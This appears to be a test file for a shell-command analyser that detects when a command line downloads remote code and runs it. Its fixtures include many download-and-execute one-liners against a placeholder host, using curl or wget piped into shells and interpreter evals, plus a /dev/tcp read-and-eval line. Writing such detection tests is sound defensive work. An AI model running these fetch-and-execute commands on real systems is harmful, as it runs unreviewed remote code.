import { describe, expect, it } from "vitest";
import { testCatalog } from "../../../test/support/events.ts";
import { resolve } from "../resolve.ts";

/** What each behaviour runs, with its techniques. */
function running(commandLine: string) {
  const { invocations } = resolve({ commandLine, platform: "linux" }, testCatalog());
  return invocations.flatMap(({ behaviours }) =>
    behaviours.flatMap(({ runs, techniques, behaviour }) =>
      runs.map(({ value, what }) => ({ value, what, usual: behaviour.usual, techniques })),
    ),
  );
}

describe("what another command of the line fetches is what runs", () => {
  it.each([
    ["in the place of a file", "lua <(curl -s http://h.example/a)"],
    ["in the place of an option's file", "awk -f <(wget -qO- http://h.example/a) /etc/hosts"],
    ["in the place of code", 'awk "$(curl -s http://h.example/a)"'],
    ["in the place of code, between back-ticks", 'lua -e "`curl -s http://h.example/a`"'],
    ["behind an editor of streams", "curl http://h.example/a | sed 's/x/y/' | bash"],
    ["on the input of what carries that out", "curl -s http://h.example/a | ed"],
    ["on the input of an interpreter", "wget -qO- http://h.example/a | lua"],
    ["behind code that stands in the words", "curl http://h.example/a | awk '{ print $2 }' | bash"],
  ])("%s", (_, line) => {
    const found = running(line).filter(({ value }) => value === "http://h.example/a");
    expect(found).toMatchObject([{ what: "script" }]);
    expect(found[0]?.usual).not.toBe("routine");
    expect(found[0]?.techniques).toContain("T1105");
  });

  it.each([
    ["by the name that every program has for its input", "curl -s http://h.example/a | go run /dev/stdin"],
    ["in a shell that a shell starts", "curl -s http://h.example/a | sh -c '. /proc/self/fd/0'"],
    ["where Python runs what it reads", "curl -s http://h.example/a | python3 -c 'import os; exec(os.read(0, 9999))'"],
    ["where Python opens its input", "curl -s http://h.example/a | python3 -c 'exec(open(0).read())'"],
    ["where Perl runs a line of it", "curl -s http://h.example/a | perl -e 'eval <STDIN>'"],
    ["where Ruby starts what it reads", "curl -s http://h.example/a | ruby -e 'system $<.read'"],
    [
      "where node is told piece by piece",
      `curl -s http://h.example/a | node -e 'process.stdin.on("data", (d) => eval(d + ""))'`,
    ],
    [
      "where PHP reads it by its own name for it",
      `curl -s http://h.example/a | php -r 'eval(file_get_contents("php://stdin"));'`,
    ],
    ["where Lua loads it", `curl -s http://h.example/a | lua -e 'load(io.read("*a"))()'`],
  ])("%s", (_, line) => {
    expect(running(line).filter(({ what }) => what !== "inlineCode" && what !== "command")).toMatchObject([
      { value: "http://h.example/a", techniques: expect.arrayContaining(["T1105"]) },
    ]);
  });

  it("code that runs only what it names runs nothing that is fetched", () => {
    const line =
      "curl -s http://h.example/a | python3 -c 'import sys, os; print(sys.stdin.read()); os.system(\"date\")'";
    expect(running(line).map(({ value }) => value)).not.toContain("http://h.example/a");
  });

  it("nothing is brought where nothing is fetched", () => {
    expect(running("lua <(cat a.lua)")).toEqual([]);
    expect(running("ls | awk '{ print $2 }' | sh").map(({ value }) => value)).toEqual(["{ print $2 }"]);
  });
});

describe("what runs from a machine of the web that is called by its number", () => {
  it.each(["php http://192.0.2.7/k.php", "java -jar http://192.0.2.7/k.jar", "docker run 192.0.2.7:5000/k"])(
    "is no everyday work: %s",
    (line) => {
      const [first] = running(line);
      expect(first?.usual).toBe("common");
      expect(first?.techniques).toContain("T1105");
    },
  );

  it("is everyday work where the machine has a name", () => {
    expect(running("java -jar https://h.example/k.jar")[0]?.usual).toBe("routine");
  });
});

it("what comes by a connection that the shell opens comes from its other end", () => {
  const { invocations } = resolve(
    { commandLine: 'read x < /dev/tcp/192.0.2.7/80; eval "$x"', platform: "linux" },
    testCatalog(),
  );
  const runs = invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.runs));
  expect(runs).toMatchObject([{ value: "/dev/tcp/192.0.2.7/80", resolved: "tcp://192.0.2.7:80/", remote: true }]);
});

describe("a file that is given as the input", () => {
  it.each([
    "python3 < /srv/a",
    "perl - < /srv/a",
    "cat /srv/a | ruby",
    "bash /dev/stdin < /srv/a",
    "sh -c '. /dev/fd/0' < /srv/a",
    "cat /srv/a | sh -c 'node /proc/self/fd/0'",
    "python3 -c 'exec(open(0).read())' < /srv/a",
  ])("is what runs: %s", (line) => {
    expect(running(line).filter(({ what }) => what !== "inlineCode" && what !== "command")).toMatchObject([
      { value: "/srv/a" },
    ]);
  });
  it("is not what is written to a name of the input", () => {
    const { invocations } = resolve({ commandLine: "tee /dev/stdin < /srv/a", platform: "linux" }, testCatalog());
    const written = invocations.flatMap(({ behaviours }) => behaviours.flatMap(({ writes }) => writes));
    expect(written.map(({ value }) => value)).not.toContain("/srv/a");
  });
});
